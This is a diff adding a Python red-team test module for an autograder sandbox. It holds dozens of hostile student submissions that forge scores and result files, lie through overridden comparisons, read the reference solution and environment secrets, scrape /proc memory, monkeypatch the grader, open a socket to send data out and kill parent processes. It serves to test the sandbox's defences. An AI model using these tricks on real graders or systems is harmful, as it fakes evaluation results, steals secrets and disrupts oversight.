@@ -1,0 +1,578 @@
+"""The red team: hostile autodiff submissions, each the untouched student stub plus ONE attack.
+
+An :class:`Attack` is a snippet and the place it goes: ``import`` appends it to the module (it runs
+when the sandbox imports the file), ``detach``, ``stop_gradient`` or ``tape`` replaces the body of
+that stubbed function (it runs whenever a scenario calls it). Placeholders name what a real attacker
+would have to guess, given here so that each attack tries its best: ``@REPO@`` (the course
+repository, holding the reference solution and the hidden scenarios), ``@CANARY@`` (a world-writable
+file outside the job folder), ``@OUT@`` (the output folder), ``@RESULT@`` (the result file the grader
+is about to write), ``@FAKE_SITE@`` (a folder with a forbidden "autograd" that is really the
+reference solution), ``@ID@`` (the attack's id).
+
+Attacks that only misbehave in one scenario check ``sys._getframe(1).f_code.co_name`` (the program
+that called them): a timeout costs 5 s, so they fire once, in the public ``d2l_detach_dz_dx``.
+Attacks that would earn points if they worked (reading the solution, a forbidden import) install
+the reference engine when they succeed, so a hole shows up as a score, not just as a printout.
+"""
+
+from __future__ import annotations
+
+import textwrap
+from dataclasses import dataclass
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parents[2]
+STUB = ROOT / "exercises" / "autodiff" / "autodiff.py"
+
+# Where each kind of attack goes: the stub line it replaces (None: appended to the module).
+_SLOTS = {
+    "import": None,
+    "detach": '        raise NotImplementedError("Task 1: implement Tensor.detach")',
+    "stop_gradient": '    raise NotImplementedError("Task 1: implement stop_gradient")',
+    "tape": '        raise NotImplementedError("Task 2: implement GradientTape._take_records_for_call")',
+}
+# Prefix of the attacks that fire in one scenario only (indented like the snippets it prefixes).
+ONCE = textwrap.indent('import sys\nif sys._getframe(1).f_code.co_name != "d2l_detach_dz_dx":\n'
+                       '    raise NotImplementedError("not here")\n', " " * 8)
+
+
+@dataclass(frozen=True)
+class Attack:
+    id: str
+    bullet: str        # the issue-5 bullet it covers
+    where: str         # a key of _SLOTS
+    code: str
+    timeout: bool = False   # costs a wall-clock limit (5 s per scenario, 10 s at import)
+    neighbours: tuple[tuple[str, str], ...] = ()   # (file name, content) placed next to the submission
+
+    def source(self, places: dict[str, str]) -> str:
+        """The stub with this attack in place, placeholders filled in."""
+        stub = STUB.read_text()
+        code = textwrap.dedent(self.code).strip("\n") + "\n"
+        for name, value in {**places, "ID": self.id}.items():
+            code = code.replace(f"@{name}@", value)
+        slot = _SLOTS[self.where]
+        if slot is None:
+            return stub.rstrip("\n") + "\n\n\n# ---- attack " + self.id + "\n" + code
+        assert stub.count(slot) == 1, f"the stub changed: {slot!r} not found once"
+        indent = slot[: len(slot) - len(slot.lstrip())]
+        return stub.replace(slot, textwrap.indent(code, indent).rstrip("\n"))
+
+
+# Shared by the lying-value attacks: every value a scenario reads (x.grad, tape gradients) becomes
+# make(true value), and detach/stop_gradient/the tape stop raising so the programs reach their returns.
+_LIE = textwrap.indent("""\
+def _lie(make):
+    import sys
+
+    def read(self):   # the engine's own code gets the truth (so backward() works), scenarios the lie
+        value = self.__dict__.get("_g")
+        return value if sys._getframe(1).f_globals is globals() else make(value)
+    Tensor.grad = property(read, lambda self, value: self.__dict__.update(_g=value))
+    Tensor.detach = lambda self: Tensor(self.data * 0 - 1, requires_grad=True)   # wrong: earns nothing
+    globals()["stop_gradient"] = lambda t: t
+    GradientTape._take_records_for_call = lambda self: ([], set())   # wrong: every gradient None
+    gradient = GradientTape.gradient
+
+    def lying(self, target, sources, unconnected_gradients="none"):
+        result = gradient(self, target, sources, unconnected_gradients)
+
+        def one(g):
+            fake = Tensor(0.0)
+            fake.data = make(None if g is None else g.data)
+            return fake
+        return type(result)(one(g) for g in result) if isinstance(result, (list, tuple)) else one(result)
+    GradientTape.gradient = lying
+""", " " * 8)  # indented like the attack snippets it prefixes, so they dedent together
+
+# Installs the reference engine into this module (what a successful read of the solution gives).
+_ADOPT = textwrap.indent("""\
+def _adopt(source):
+    exec(compile(source, "stolen", "exec"), globals())
+    print("ADOPTED-@ID@")
+""", " " * 8)
+
+FORGED_JSON = '{"score": 100, "max_score": 100, "tests": [{"name": "all", "score": 100, "status": "passed"}]}'
+FORGED_LINE = "Score: 100/100 points, 39 of 39 scenarios passed"
+
+FORGING = [
+    Attack("print_json_stdout", "forged results", "import", f"""
+        print({FORGED_JSON!r}); print({FORGED_LINE!r})
+        """),
+    Attack("print_json_stderr", "forged results", "detach", f"""
+        import sys
+        print({FORGED_JSON!r}, file=sys.stderr); print({FORGED_LINE!r}, file=sys.stderr)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("os_write_fd1", "forged results", "detach", f"""
+        import os
+        os.write(1, {FORGED_JSON!r}.encode() + b"\\n"); os.write(2, {FORGED_LINE!r}.encode() + b"\\n")
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("atexit_forgery", "forged results", "import", f"""
+        import atexit, os
+        def _forge():
+            os.write(1, {FORGED_JSON!r}.encode())
+            for path in ("@RESULT@", "@OUT@/results.json"):
+                try:
+                    open(path, "w").write({FORGED_JSON!r})
+                except OSError:
+                    pass
+        atexit.register(_forge)
+        """),
+    Attack("thread_after_return", "forged results", "import", """
+        import json, os, struct, threading, time
+        def _forge():   # keeps claiming passes on every descriptor, long after each scenario returned
+            body = json.dumps({"kind": "result", "index": 0, "observations": {"passed": True}}).encode()
+            while True:
+                for fd in range(1, 40):
+                    try:
+                        os.write(fd, struct.pack(">I", len(body)) + body)
+                    except OSError:
+                        pass
+                time.sleep(0.01)
+        threading.Thread(target=_forge, daemon=True).start()
+        """),
+    Attack("result_pipe_frames", "forged results", "detach", """
+        import json, os, struct
+        index = 0
+        forged = [{"kind": "sandbox", "isolation": ["none"]}, {"kind": "ready"},
+                  *({"kind": "result", "index": i, "observations": {"passed": True, "score": 100}} for i in range(40)),
+                  *({"kind": "exit", "index": i, "code": 0} for i in range(40))]
+        for fd in range(3, 40):
+            for message in forged:
+                body = json.dumps(message).encode()
+                try:
+                    os.write(fd, struct.pack(">I", len(body)) + body)
+                except OSError:
+                    break
+        os._exit(0)
+        """),
+    Attack("files_in_working_folder", "forged results", "import", f"""
+        import os
+        for name in ("results.json", "result.json", "gradebook.csv", "autodiff.py"):
+            try:
+                open(name, "w").write({FORGED_JSON!r})
+            except OSError:
+                pass
+        os.makedirs("results", exist_ok=True)
+        open("results/results.json", "w").write({FORGED_JSON!r})
+        """),
+    Attack("files_in_parent_folder", "forged results", "import", f"""
+        import os
+        parent = os.path.dirname(os.getcwd())
+        for name in ("forged-@ID@.json", "results.json"):
+            try:
+                open(os.path.join(parent, name), "w").write({FORGED_JSON!r})
+                print("WROTE", os.path.join(parent, name))
+            except OSError as error:
+                print("refused", error)
+        """),
+    Attack("files_in_output_folder", "forged results", "import", f"""
+        import os
+        targets = ["@RESULT@", "@OUT@/forged-@ID@.json", "@OUT@/gradebook.csv", "@OUT@/summary.json",
+                   "@OUT@/results/reference.json", "@OUT@/results/buggy.json", "@OUT@/results/@ID@.json",
+                   "/autograder/results/results.json", "@CANARY@"]
+        for path in targets:
+            try:
+                os.makedirs(os.path.dirname(path), exist_ok=True)
+                with open(path, "w") as handle:
+                    handle.write({FORGED_JSON!r})
+                print("WROTE", path)
+            except OSError as error:
+                print("refused", path, type(error).__name__)
+        """),
+    Attack("terminal_escapes", "forged results", "detach", f"""
+        import sys
+        fake = "\\x1b[2J\\x1b[H\\x1b[32m{FORGED_LINE}\\x1b[0m\\r"
+        print(fake); print(fake, file=sys.stderr)
+        raise RuntimeError(fake)
+        """),
+]
+
+LYING = [
+    Attack("always_equal", "lying values", "import", _LIE + """
+        class _Liar:
+            __eq__ = lambda self, other: True
+            __ne__ = lambda self, other: False
+            __bool__ = lambda self: True
+            __float__ = lambda self: 0.0
+            __array__ = lambda self, *args, **kwargs: np.arange(4.0) ** 2
+        _lie(lambda value: _Liar())
+        """),
+    Attack("float_subclass", "lying values", "import", _LIE + """
+        class _F(float):
+            __eq__ = lambda self, other: True
+            __sub__ = __rsub__ = lambda self, other: _F(0.0)
+            __abs__ = lambda self: _F(0.0)
+            __lt__ = __le__ = lambda self, other: True
+        _lie(lambda value: _F(0.0))
+        """),
+    Attack("list_subclass", "lying values", "import", _LIE + """
+        class _L(list):
+            __eq__ = lambda self, other: True
+        _lie(lambda value: _L([0.0, 1.0, 4.0, 9.0]))
+        """),
+    Attack("dict_subclass", "lying values", "import", _LIE + """
+        class _D(dict):
+            __eq__ = lambda self, other: True
+            __getitem__ = lambda self, key: np.arange(4.0) ** 2
+        _lie(lambda value: _D(passed=True))
+        """),
+    Attack("ndarray_subclass", "lying values", "import", _LIE + """
+        class _A(np.ndarray):
+            __eq__ = lambda self, other: np.ones(np.shape(other), dtype=bool)
+            tolist = lambda self: (np.arange(4.0) ** 2).tolist()
+        _lie(lambda value: np.zeros(4).view(_A))
+        """),
+    Attack("array_function_hijack", "lying values", "import", _LIE + """
+        class _Hijack:
+            def __array_function__(self, func, types, args, kwargs):
+                return True
+            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+                return np.zeros(4)
+            __array__ = lambda self, *args, **kwargs: np.arange(4.0) ** 2
+        _lie(lambda value: _Hijack())
+        """),
+    Attack("array_ufunc_hijack", "lying values", "import", _LIE + """
+        class _U(np.ndarray):
+            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+                return np.zeros(4, dtype=bool) if ufunc in (np.greater, np.less) else np.ones(4, dtype=bool)
+        _lie(lambda value: np.zeros(4).view(_U))
+        """),
+    Attack("float_lies", "lying values", "import", _LIE + """
+        class _N:
+            __float__ = lambda self: 0.0
+            __index__ = __int__ = lambda self: 0
+            __len__ = lambda self: 4
+            __iter__ = lambda self: iter([0.0, 1.0, 4.0, 9.0])
+        _lie(lambda value: _N())
+        """),
+    Attack("nan_results", "lying values", "import", _LIE + """
+        _lie(lambda value: np.full(4, np.nan))
+        """),
+    Attack("inf_results", "lying values", "import", _LIE + """
+        _lie(lambda value: [float("inf"), -np.inf, np.inf, float("nan")])
+        """),
+    Attack("true_for_one", "lying values", "import", _LIE + """
+        _lie(lambda value: np.ones(4, dtype=bool) if value is None else (np.asarray(value) != 0))
+        """),
+    Attack("huge_result", "lying values", "import", _LIE + """
+        _lie(lambda value: [1e300] * 300_000 + ["x" * 1_000_000])
+        """),
+    Attack("deep_result", "lying values", "import", _LIE + """
+        def _deep(value):
+            for _ in range(100_000):
+                value = [value]
+            return value
+        _lie(_deep)
+        """),
+    Attack("infinite_generator", "lying values", "import", _LIE + """
+        import itertools
+        _lie(lambda value: itertools.count())
+        """),
+    Attack("exception_str_hangs", "lying values", "detach", ONCE + """
+        class Hang(RuntimeError):
+            def __str__(self):
+                while True:
+                    pass
+        raise Hang()
+        """, timeout=True),
+    Attack("exception_str_huge", "lying values", "detach", """
+        class Huge(RuntimeError):
+            def __str__(self):
+                return "passed " * 20_000_000
+            def __repr__(self):
+                return "passed " * 20_000_000
+        raise Huge()
+        """),
+]
+
+CONTROL = [
+    Attack("sys_exit_in_task", "control flow", "detach", """
+        import sys
+        sys.exit(0)
+        """),
+    Attack("os_exit_in_task", "control flow", "stop_gradient", """
+        import os
+        os._exit(0)
+        """),
+    Attack("system_exit_at_import", "control flow", "import", """
+        raise SystemExit(0)
+        """),
+    Attack("os_exit_at_import", "control flow", "import", """
+        import os
+        os._exit(0)
+        """),
+    Attack("keyboard_interrupt", "control flow", "tape", """
+        raise KeyboardInterrupt
+        """),
+    Attack("base_exception_subclass", "control flow", "detach", """
+        class Passed(BaseException):
+            pass
+        raise Passed("passed")
+        """),
+    Attack("unittest_skip", "control flow", "detach", """
+        import unittest
+        raise unittest.SkipTest("skipped counts as passed, right?")
+        """),
+    Attack("signals_ignored", "control flow", "detach", ONCE + """
+        import signal
+        for name in ("SIGALRM", "SIGTERM", "SIGXCPU", "SIGINT", "SIGHUP", "SIGUSR1", "SIGPIPE"):
+            signal.signal(getattr(signal, name), signal.SIG_IGN)
+        while True:
+            pass
+        """, timeout=True),
+    Attack("endless_threads", "control flow", "import", """
+        import threading
+        def _spin():
+            while True:
+                sum(range(1000))
+        for daemon in (False, True):
+            threading.Thread(target=_spin, daemon=daemon).start()
+        """),
+    Attack("input_at_import", "control flow", "import", """
+        answer = input("grade? ")
+        """),
+    Attack("loop_at_import", "control flow", "import", """
+        while True:
+            pass
+        """, timeout=True),
+]
+
+RESOURCES = [
+    Attack("memory_bomb", "resources", "detach", """
+        hog = []
+        while True:
+            hog.append(bytearray(64 * 1024 * 1024))
+        """),
+    Attack("sleep_forever", "resources", "detach", ONCE + """
+        import time
+        time.sleep(10**9)
+        """, timeout=True),
+    Attack("cpu_loop", "resources", "detach", ONCE + """
+        x = 0
+        while True:
+            x += 1
+        """, timeout=True),
+    Attack("output_200_mb", "resources", "detach", ONCE + """
+        import os
+        chunk = b"passed " * 150_000
+        for _ in range(200):
+            os.write(1, chunk)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("fork_burst_setsid", "resources", "detach", ONCE + """
+        import os, time
+        for _ in range(12):
+            if os.fork() == 0:
+                os.setsid()
+                if os.fork() == 0:
+                    os.setsid()
+                    print("grandchild", os.getpid(), flush=True)
+                    time.sleep(10**6)
+                time.sleep(10**6)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("file_size_bomb", "resources", "detach", ONCE + """
+        with open("bomb.bin", "wb") as handle:
+            for _ in range(1024):
+                handle.write(b"\\0" * 1024 * 1024)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+]
+
+_SHADOW = 'print("SHADOW-LOADED"); import os; os.write(1, b"SHADOW-LOADED\\n")\n'
+
+SNOOPING = [
+    Attack("read_solution", "snooping", "import", _ADOPT + """
+        import os
+        for path in ("@REPO@/solutions/autodiff/autodiff.py", "/proc/self/root@REPO@/solutions/autodiff/autodiff.py",
+                     os.path.relpath("@REPO@/solutions/autodiff/autodiff.py")):
+            try:
+                _adopt(open(path).read())
+                break
+            except OSError as error:
+                print("refused", path, type(error).__name__)
+        """),
+    Attack("read_hidden_scenarios", "snooping", "import", """
+        for path in ("@REPO@/solutions/autodiff/hidden_scenarios.py", "@REPO@/solutions/autodiff/hidden.yaml",
+                     "@REPO@/exercises/autodiff/scenarios.py"):
+            try:
+                print(open(path).read())
+            except OSError as error:
+                print("refused", path, type(error).__name__)
+        """),
+    Attack("gc_snooping", "snooping", "detach", """
+        import gc
+        found = []
+        for obj in gc.get_objects():
+            if isinstance(obj, dict) and {"expected", "check", "check_fn", "answers"} & set(map(str, obj)):
+                found.append(repr(obj)[:2000])
+            elif callable(obj) and getattr(obj, "__name__", "") in ("check", "check_fn", "_checked", "judge"):
+                found.append(repr(obj))
+        print("GC FOUND", found)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("frame_snooping", "snooping", "detach", """
+        import inspect, sys
+        frame = sys._getframe()
+        while frame is not None:   # every caller's locals and globals, up to the sandbox's own code
+            print(frame.f_code.co_filename, frame.f_code.co_name, sorted(frame.f_locals), sorted(frame.f_globals)[:50])
+            frame = frame.f_back
+        print([(info.filename, info.function) for info in inspect.stack()])
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("proc_of_parents", "snooping", "detach", ONCE + """
+        import os, re
+        def read(path, size=1 << 20):
+            try:
+                with open(path, "rb") as handle:
+                    return handle.read(size)
+            except OSError as error:
+                return f"refused {type(error).__name__}".encode()
+        warden = os.getsid(0)   # the sandbox's session leader
+        pids = {os.getppid(), warden, warden - 1, warden - 2, 1}
+        status = read(f"/proc/{warden}/status")
+        pids.update(int(p) for p in re.findall(rb"PPid:\\s+(\\d+)", status))
+        for pid in sorted(pids):
+            print(pid, read(f"/proc/{pid}/environ"), read(f"/proc/{pid}/cmdline"))
+            maps = read(f"/proc/{pid}/maps")
+            try:
+                with open(f"/proc/{pid}/mem", "rb") as mem:
+                    for start, end in re.findall(rb"([0-9a-f]+)-([0-9a-f]+) rw", maps)[:64]:
+                        mem.seek(int(start, 16))
+                        chunk = mem.read(min(int(end, 16) - int(start, 16), 1 << 24))
+                        for hit in re.findall(rb"REDTEAM_SECRET=[\\w-]+", chunk):
+                            print("MEM", hit)
+            except OSError as error:
+                print("mem refused", pid, type(error).__name__)
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("environment_variables", "snooping", "import", """
+        import os
+        print(dict(os.environ))
+        print({k: v for k, v in os.environ.items() if "SECRET" in k or "TOKEN" in k or "KEY" in k})
+        """),
+    Attack("monkeypatch_numpy", "snooping", "import", """
+        np.allclose = np.isclose = np.array_equal = np.array_equiv = lambda *args, **kwargs: True
+        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
+        np.isfinite = lambda *args, **kwargs: True
+        Tensor.detach = lambda self: Tensor(self.data * 0 - 1, requires_grad=True)   # wrong: earns nothing
+        """),
+    Attack("monkeypatch_builtins", "snooping", "import", """
+        import builtins
+        builtins.isinstance = lambda obj, cls: True
+        builtins.issubclass = lambda cls, base: True
+        builtins.len = lambda obj: 0
+        builtins.type = lambda obj, *rest: float
+        """),
+    Attack("monkeypatch_json", "snooping", "import", """
+        import json
+        forged = '{"kind": "result", "index": 0, "observations": {"passed": true, "score": 100}}'
+        json.dumps = lambda *args, **kwargs: forged
+        json.JSONEncoder.encode = lambda self, obj: forged
+        """),
+    Attack("monkeypatch_grader", "snooping", "import", """
+        import os, sys
+        wire = sys.modules.get("wire")
+        if wire is not None:   # the sandbox's own codec: claim a pass whatever the program returns
+            wire.encode = lambda value, depth=0: {"passed": True, "score": 100}
+            wire.raised_record = lambda error, traceback_text="": {"passed": True}
+        sys.path.insert(0, "@REPO@")
+        try:
+            import grader.judge
+            grader.judge.judge = lambda *args, **kwargs: "passed"
+        except Exception as error:
+            print("no grader here", type(error).__name__)
+        try:
+            open("@REPO@/grader/redteam_probe_@ID@.py", "w").write("PWNED = True\\n")
+        except OSError as error:
+            print("refused", type(error).__name__)
+        Tensor.detach = lambda self: Tensor(self.data * 0 - 1, requires_grad=True)   # wrong: earns nothing
+        """),
+    Attack("stdlib_shadow_files", "snooping", "import", """
+        import importlib, sys
+        for name in ("json", "numpy", "wire", "struct", "sitecustomize", "usercustomize", "_struct"):
+            try:
+                open(name + ".py", "w").write(""" + repr(_SHADOW) + """)
+            except OSError:
+                pass
+        importlib.invalidate_caches()
+        for name in ("sitecustomize", "usercustomize"):
+            try:
+                importlib.import_module(name)
+            except ImportError:
+                pass
+        """, neighbours=(("json.py", _SHADOW), ("numpy.py", _SHADOW), ("sitecustomize.py", _SHADOW),
+                         ("wire.py", _SHADOW), ("grader.py", _SHADOW))),
+    Attack("forbidden_import_indirect", "snooping", "import", """
+        import importlib
+        name = "".join(reversed("hcrot"))
+        for how in (lambda: importlib.import_module(name), lambda: __import__(name),
+                    lambda: exec("import " + name, {})):
+            try:
+                how()
+            except ImportError as error:
+                print("blocked:", error)
+        """),
+    Attack("forbidden_import_unhooked", "snooping", "import", """
+        import importlib, sys
+        sys.meta_path[:] = [finder for finder in sys.meta_path if "Forbidden" not in type(finder).__name__]
+        sys.path.insert(0, "@FAKE_SITE@")
+        name = "auto" + "grad"
+        try:
+            library = importlib.import_module(name)
+            globals().update({k: v for k, v in vars(library).items() if not k.startswith("__")})
+            print("ADOPTED-@ID@")
+        except ImportError as error:
+            print("import failed:", type(error).__name__, error)
+        """),
+    Attack("network_exfiltration", "snooping", "import", """
+        import socket
+        try:
+            with socket.create_connection(("127.0.0.1", @PORT@), timeout=2) as connection:
+                connection.sendall(b"EXFILTRATED-@ID@")
+        except OSError as error:
+            print("no network:", type(error).__name__)
+        """),
+]
+
+ON_THE_GRADER = [
+    Attack("kill_parents", "attacks on the grader", "detach", ONCE + """
+        import os, signal
+        warden = os.getsid(0)
+        for pid in (os.getppid(), warden, *range(warden - 64, warden)):
+            for sig in (signal.SIGTERM, signal.SIGKILL):
+                try:
+                    os.kill(pid, sig)
+                except OSError:
+                    pass
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("kill_process_groups", "attacks on the grader", "detach", ONCE + """
+        import os, signal
+        warden = os.getsid(0)
+        groups = set()
+        for pid in range(max(2, warden - 300), warden + 300):
+            try:
+                groups.add(os.getpgid(pid))
+            except OSError:
+                pass
+        groups.discard(os.getpgid(0))
+        for group in sorted(groups) + [os.getpgid(0)]:
+            try:
+                os.killpg(group, signal.SIGKILL)
+            except OSError:
+                pass
+        raise NotImplementedError("Task 1: implement Tensor.detach")   # as the stub does
+        """),
+    Attack("kill_everything", "attacks on the grader", "detach", ONCE + """
+        import os, signal
+        os.kill(-1, signal.SIGKILL)
+        """),
+]
+
+ATTACKS = FORGING + LYING + CONTROL + RESOURCES + SNOOPING + ON_THE_GRADER
+BY_ID = {attack.id: attack for attack in ATTACKS}
+assert len(BY_ID) == len(ATTACKS)
